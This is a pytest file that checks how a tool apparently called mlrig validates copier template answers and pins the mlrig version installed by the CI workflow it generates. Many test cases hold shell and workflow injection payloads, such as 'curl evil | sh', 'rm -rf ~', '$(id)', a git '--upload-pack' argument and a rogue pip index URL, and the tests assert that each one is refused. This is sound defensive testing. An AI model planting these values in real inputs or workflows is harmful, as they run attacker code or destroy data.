"""Issue 27 (8, 9): a repository's copier answers are input, checked at one boundary before
any reaches copier, git, a path or the CI workflow; and the generated AWS workflow installs
only the exact mlrig the repository names in MLRIG_PIP_SPEC, never a bare public name."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from mlrig import contract
from mlrig.contract import Mlflow
from mlrig.core.bootstrap import _render as bootstrap_render
from mlrig.core.bootstrap import init as bootstrap
from mlrig.core.shared import names as bootstrap_names
from mlrig.errors import ConfigError, UsageError
from mlrig.main import app
from tests.helpers import aws_outputs

runner = CliRunner()
WORKFLOW = ".github/workflows/ci.yml"


def _good_answers() -> dict[str, Any]:
    """What `mlrig init --github-repo acme/proj` records on an AWS stack."""
    return {
        "_commit": "1.2.0",
        "_src_path": "/home/u/.mlrig/templates/pipeline",
        "project_name": "proj",
        "stack": "prod",
        "github_repo": "acme/proj",
        "stack_kind": "aws",
        "aws_region": "eu-west-1",
        "mlflow_tracking_uri": "https://mlflow.example.com",
        "mlflow_username": "repo-proj",
        "mlflow_oidc_audience": "mlrig:prod",
        "registry_url": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/m",
        "ci_role_arn": "arn:aws:iam::123456789012:role/ci",
        "description": "A model trained with DVC and tracked in MLflow.",
        "python_version": "3.11",
    }


def _answers_only(data: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in data.items() if not k.startswith("_")}


def test_the_answers_mlrig_writes_pass_unchanged() -> None:
    good = _answers_only(_good_answers())
    assert bootstrap_names.check_template_answers(good) == good
    local = {**good, "stack_kind": "local", "aws_region": "", "ci_role_arn": "", "github_repo": ""}
    local.update(mlflow_tracking_uri="http://127.0.0.1:5000", registry_url="127.0.0.1:5001/models")
    assert bootstrap_names.check_template_answers(local) == local


# each value would otherwise land in the workflow's YAML or shell, a path, or a Python string
BAD_ANSWERS = [
    ("project_name", "../../outside", "not a valid ECR repository name"),
    ("project_name", "proj\n", "control character"),
    ("stack", "prod\n", "control character"),
    ("stack", "Prod/..", "invalid stack name"),
    ("github_repo", "acme/proj\n", "control character"),
    ("github_repo", 'acme/x:*"; curl -s evil | sh; #', "invalid --github-repo"),
    ("mlflow_tracking_uri", "https://x/'$(curl evil|sh)'", "not an http(s) URL"),
    ("mlflow_tracking_uri", "https://x ${{ secrets.X }}", "not an http(s) URL"),
    ("mlflow_oidc_audience", 'mlrig:prod"\n  EVIL: "1', "control character"),
    ("mlflow_oidc_audience", "mlrig:prod $(id)", "not an audience"),
    ("registry_url", "host/m; rm -rf ~", "not a registry repository"),
    ("ci_role_arn", "arn:aws:iam::123456789012:role/ci\"'", "not an IAM role ARN"),
    ("aws_region", "eu-west-1 && id", "not an AWS region"),
    ("stack_kind", "gcp", "not local or aws"),
    ("python_version", "3.11; id", "not a Python version"),
    ("mlrig_version", "1.0; curl -s evil | sh", "not a version of mlrig"),
    ("mlrig_version", "1.0 ${{ secrets.X }}", "not a version of mlrig"),
    ("description", 'x"""\nimport os; os.system("id")\n"""', "control character"),
    ("description", 'x""" + __import__("os").system("id") + """', "not one line of plain text"),
    ("mlflow_username", "admin", "not the repository's machine identity 'repo-proj'"),
]


@pytest.mark.parametrize(("key", "value", "says"), BAD_ANSWERS)
def test_an_answer_that_breaks_its_rule_is_refused(key: str, value: str, says: str) -> None:
    with pytest.raises(UsageError) as err:
        bootstrap_names.check_template_answers({**_answers_only(_good_answers()), key: value})
    assert says in err.value.message


def test_answers_of_another_type_unknown_or_missing_are_refused() -> None:
    good = _answers_only(_good_answers())
    with pytest.raises(UsageError, match="the answer python_version is not a string"):
        bootstrap_names.check_template_answers({**good, "python_version": 3.11})
    with pytest.raises(UsageError, match="unknown answer 'post_install'"):
        bootstrap_names.check_template_answers({**good, "post_install": "curl evil | sh"})
    with pytest.raises(UsageError, match="the answer stack is missing"):
        bootstrap_names.check_template_answers({k: v for k, v in good.items() if k != "stack"})


def test_init_refuses_a_github_repo_with_a_line_break(mlrig_home: Path, tmp_path: Path) -> None:
    """The owner/repo rule's `$` let a final newline by, which ended the workflow's comment
    line and left the rest of the value as a line of YAML."""
    contract.save(aws_outputs())
    target = tmp_path / "proj"
    args = ["init", str(target), "--stack", "prod", "--no-input", "--github-repo", "acme/proj\n"]
    result = runner.invoke(app, args)
    assert result.exit_code == 2, result.output
    (line,) = result.output.strip().splitlines()
    assert "invalid --github-repo 'acme/proj\\n'" in line and "control character" in line
    assert not target.exists()


def _write_answers(root: Path, data: dict[str, Any]) -> None:
    text = "# Written by copier for `mlrig update`: do not edit by hand.\n"
    (root / ".copier-answers.yml").write_text(text + yaml.safe_dump(data))


def test_read_answers_checks_every_answer_and_the_template_reference(tmp_path: Path) -> None:
    _write_answers(tmp_path, _good_answers())
    assert bootstrap.read_answers(tmp_path) == _good_answers()
    for key, value, says in [
        ("project_name", "../../outside", "not a valid ECR repository name"),
        ("_commit", "--upload-pack=touch /tmp/pwned", "_commit"),
        ("_commit", 120, "_commit"),
        ("_src_path", "relative/dir", "not an absolute path"),
    ]:
        _write_answers(tmp_path, {**_good_answers(), key: value})
        with pytest.raises(ConfigError) as err:
            bootstrap.read_answers(tmp_path)
        assert says in err.value.message and ".copier-answers.yml" in err.value.message
        assert "git log -p -- .copier-answers.yml" in (err.value.hint or "")


def test_update_refuses_a_bad_answer_in_one_line_and_writes_nothing(
    mlrig_home: Path, tmp_path: Path
) -> None:
    _write_answers(tmp_path, {**_good_answers(), "github_repo": 'acme/x:*"; curl evil | sh; #'})
    before = sorted(p.name for p in tmp_path.iterdir())
    result = runner.invoke(app, ["update", str(tmp_path)])
    assert result.exit_code == 3
    assert "Traceback" not in result.output
    (line,) = result.output.strip().splitlines()
    assert "invalid --github-repo" in line and ".copier-answers.yml" in line
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_a_stack_whose_outputs_would_inject_into_the_workflow_is_refused(
    mlrig_home: Path, tmp_path: Path
) -> None:
    src, ref = bootstrap.template_repo()
    bad = Mlflow(tracking_uri="https://x/'\"$(curl evil|sh)\"'")
    outputs = aws_outputs().model_copy(update={"mlflow": bad})
    with pytest.raises(ConfigError) as err:
        bootstrap_render.render(src, ref, tmp_path / "churn", project="churn", outputs=outputs)
    assert "stack 'prod' cannot wire a repository" in err.value.message
    assert "mlflow_tracking_uri" in err.value.message
    assert not (tmp_path / "churn").exists()


# -- the generated AWS workflow installs only an exact mlrig --------------------------------------
RELEASE = "1.4.2"


@pytest.fixture(scope="module")
def workflow(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    home = tmp_path_factory.mktemp("home")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MLRIG_HOME", str(home))
        # rendered by a released mlrig (this checkout's own version is a development one)
        mp.setattr(bootstrap_render, "__version__", RELEASE)
        src, ref = bootstrap.template_repo()
        dest = tmp_path_factory.mktemp("render") / "churn"
        bootstrap_render.render(src, ref, dest, project="churn", outputs=aws_outputs())
    assert yaml.safe_load((dest / ".copier-answers.yml").read_text())["mlrig_version"] == RELEASE
    data = yaml.safe_load((dest / WORKFLOW).read_text())
    return dict(data)


def _install_steps(data: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    return [
        (name, step)
        for name, job in data["jobs"].items()
        for step in job["steps"]
        if "pip install" in str(step.get("run", "")) and "MLRIG_PIP_SPEC" in str(step["run"])
    ]


def test_the_workflow_pins_the_generating_mlrig_and_has_no_public_fallback(
    workflow: dict[str, Any],
) -> None:
    assert workflow["env"]["MLRIG_PIP_SPEC"] == "${{ vars.MLRIG_PIP_SPEC }}"
    assert workflow["env"]["MLRIG_VERSION"] == RELEASE
    steps = _install_steps(workflow)
    assert sorted(name for name, _ in steps) == ["image", "pipeline", "retrain"]
    for _, step in steps:
        assert step.get("shell") == "bash"


def _run_install(
    step: dict[str, Any],
    tmp_path: Path,
    spec: str | None,
    version: str = RELEASE,
    index_lacks: str = "",
) -> tuple[subprocess.CompletedProcess[str], list[list[str]]]:
    """The step's script under bash as GitHub runs it (-eo pipefail), with a `pip` on PATH
    that records each call's arguments instead of installing anything; its `download` fails
    as pip does when the index lacks what is asked (the argument index_lacks names)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    calls = tmp_path / "pip-calls"
    calls.unlink(missing_ok=True)
    pip = bin_dir / "pip"
    pip.write_text(
        "#!/bin/bash\n"
        f'printf "%s\\t" "$@" >> "{calls}"; echo >> "{calls}"\n'
        'if [ "$1" = download ] && [ -n "$LACKS" ] && [ "${@: -1}" = "$LACKS" ]; then\n'
        '  echo "ERROR: Could not find a version that satisfies the requirement $LACKS '
        '(from versions: 0.9.0)" >&2\n'
        '  echo "ERROR: No matching distribution found for $LACKS" >&2; exit 1\n'
        "fi\n"
    )
    pip.chmod(0o755)
    script = tmp_path / "step.sh"
    script.write_text(step["run"])
    env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "HOME": str(tmp_path),
        "RUNNER_TEMP": str(tmp_path),
        "MLRIG_VERSION": version,
        "LACKS": index_lacks,
    }
    if spec is not None:
        env["MLRIG_PIP_SPEC"] = spec
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    recorded = calls.read_text().splitlines() if calls.exists() else []
    return proc, [line.rstrip("\t").split("\t") for line in recorded]


def _installs(job: str, spec: str) -> list[list[str]]:
    """What the step runs for spec: mlrig alone resolved first, then the install."""
    requirements = ["-r", "requirements.txt"] if job != "image" else []
    return [
        ["download", "-q", "--no-deps", "-d", "RUNNER_TEMP/mlrig-dist", "--", spec],
        ["install", *requirements, "--", spec],
    ]


def _normalised(calls: list[list[str]], tmp_path: Path) -> list[list[str]]:
    return [[a.replace(str(tmp_path), "RUNNER_TEMP") for a in call] for call in calls]


def test_without_a_spec_the_step_installs_exactly_the_recorded_version(
    workflow: dict[str, Any], tmp_path: Path
) -> None:
    for job, step in _install_steps(workflow):
        for spec in (None, ""):
            proc, calls = _run_install(step, tmp_path, spec)
            assert proc.returncode == 0, (job, proc.stdout, proc.stderr)
            assert _normalised(calls, tmp_path) == _installs(job, f"mlrig=={RELEASE}"), job


REFUSED = [
    (None, "", "mlrig", "records no mlrig version (mlrig_version in .copier-answers.yml)"),
    (None, "0.2.dev5+g3f38c5c", "mlrig", "generated by a development mlrig (0.2.dev5+g3f38c5c)"),
    ("", "1.4.3.dev1", "mlrig", "a development mlrig (1.4.3.dev1) that no package index has"),
    ("mlrig", RELEASE, "MLRIG_PIP_SPEC", "MLRIG_PIP_SPEC pins no exact version"),
    ("mlrig>=0.1", RELEASE, "MLRIG_PIP_SPEC", "MLRIG_PIP_SPEC pins no exact version"),
    ("mlrig==0.*", RELEASE, "MLRIG_PIP_SPEC", "wildcard"),
    ("git+https://git.example.com/mlrig.git", RELEASE, "MLRIG_PIP_SPEC", "names no tag or commit"),
    ("git+ssh://git@github.com/acme/mlrig.git", RELEASE, "MLRIG_PIP_SPEC", "no tag or commit"),
    ("mlrig @ git+https://git.example.com/mlrig.git", RELEASE, "MLRIG_PIP_SPEC", "no tag"),
    ("--index-url=https://evil.example.com/simple", RELEASE, "MLRIG_PIP_SPEC", "a pip option"),
]


@pytest.mark.parametrize(("spec", "version", "title", "says"), REFUSED)
def test_the_install_step_fails_closed(
    workflow: dict[str, Any], tmp_path: Path, spec: str | None, version: str, title: str, says: str
) -> None:
    for job, step in _install_steps(workflow):
        proc, calls = _run_install(step, tmp_path, spec, version=version)
        assert proc.returncode == 1, (job, proc.stdout, proc.stderr)
        assert calls == [], job  # nothing was resolved or installed
        (line,) = proc.stdout.strip().splitlines()
        assert line.startswith(f"::error title={title}::"), line
        assert says in line and "set the repository variable MLRIG_PIP_SPEC" in line, line
        assert "mlrig==X.Y.Z" in line, line


@pytest.mark.parametrize(
    ("spec", "lacks"),
    [(None, f"mlrig=={RELEASE}"), ("mlrig==7.7.7", "mlrig==7.7.7")],
    ids=["pinned-version-missing", "spec-does-not-resolve"],
)
def test_a_version_or_spec_the_index_lacks_is_one_line(
    workflow: dict[str, Any], tmp_path: Path, spec: str | None, lacks: str
) -> None:
    for job, step in _install_steps(workflow):
        proc, calls = _run_install(step, tmp_path, spec, index_lacks=lacks)
        assert proc.returncode == 1, (job, proc.stdout, proc.stderr)
        assert [call[0] for call in calls] == ["download"], job  # nothing installed
        (line,) = proc.stdout.strip().splitlines()
        assert f"{lacks} cannot be installed (ERROR: Could not find a version" in line, line
        assert "publish it to your index or set the repository variable MLRIG_PIP_SPEC" in line


PINNED = [
    "mlrig==0.1.0",
    "mlrig[aws] == 0.1.0",
    "mlrig @ https://pkgs.example.com/mlrig-0.1.0-py3-none-any.whl",
    "https://pkgs.example.com/mlrig-0.1.0-py3-none-any.whl",
    "./wheels/mlrig-0.1.0-py3-none-any.whl",
    "git+https://git.example.com/mlrig.git@v0.1.0",
    "git+ssh://git@github.com/acme/mlrig.git@3f2c1e9",
    "mlrig @ git+https://git.example.com/mlrig.git@v0.1.0",
]


@pytest.mark.parametrize("spec", PINNED)
def test_a_pinned_spec_wins_over_the_recorded_version_after_the_end_of_options(
    workflow: dict[str, Any], tmp_path: Path, spec: str
) -> None:
    for job, step in _install_steps(workflow):
        for version in (RELEASE, "0.2.dev5+g3f38c5c"):  # a dev mlrig's repo works with a spec
            proc, calls = _run_install(step, tmp_path, spec, version=version)
            assert proc.returncode == 0, (job, proc.stdout, proc.stderr)
            assert _normalised(calls, tmp_path) == _installs(job, spec), job
